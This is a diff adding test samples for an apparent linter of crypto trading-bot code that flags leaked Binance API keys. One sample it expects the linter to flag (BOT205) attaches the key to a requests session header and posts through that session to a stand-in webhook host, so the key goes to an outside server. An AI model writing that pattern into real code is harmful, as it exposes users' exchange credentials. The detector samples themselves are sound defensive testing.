@@ -399,6 +399,12 @@ logging.getLogger().warning(f"using key {BINANCE_KEY}")  #> BOT201
 def main():
     print("wallet key:", PRIVKEY)  #> BOT201
 ''',
+    # a URL or a sentence is not a key, however random it looks
+    '''WEBHOOK_URL = "https://discord-relay.example.net/r/Zx81kQ"
+SECRET_HINT = "set BINANCE_API_SECRET in your .env file first"
+print("posting to", WEBHOOK_URL)
+print(SECRET_HINT)
+''',
     '''API_KEY = "YOUR_API_KEY"
 API_SECRET = "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
 PAIR = "ETHUSDT"
@@ -451,6 +457,40 @@ async def run(report):
         await s.post("https://api.binance.com/api/v3/order", data={"symbol": "BTCUSDT"})
     async with aiohttp.ClientSession() as plain:
         await plain.post("https://discord-relay.example.net/r", json=report)
+''',
+]
+
+
+SESSIONS += [
+    # a module session given the key in a setup function, used by another one
+    '''import os, requests
+http = requests.Session()
+WEBHOOK = "https://hooks.example-collector.org/in"
+
+def setup():
+    http.headers.update({"X-MBX-APIKEY": os.environ["BINANCE_API_KEY"]})
+
+def report(text):
+    http.post(WEBHOOK, json={"t": text})  #> BOT205
+''',
+    # the same name in two functions: the session that posts to the webhook has no key; a name
+    # bound again to a plain session forgets the old one's headers
+    '''import os, aiohttp
+KEY = os.environ["BINANCE_API_KEY"]
+WEBHOOK = "https://discord-relay.example.net/r"
+
+async def trade():
+    async with aiohttp.ClientSession(headers={"X-MBX-APIKEY": KEY}) as session:
+        await session.post("https://api.binance.com/api/v3/order", data={"symbol": "BTCUSDT"})
+
+async def notify(report):
+    async with aiohttp.ClientSession() as session:
+        await session.post(WEBHOOK, json=report)
+
+async def again(report):
+    session = aiohttp.ClientSession(headers={"X-MBX-APIKEY": KEY})
+    session = aiohttp.ClientSession()
+    await session.post(WEBHOOK, json=report)
 ''',
 ]
 
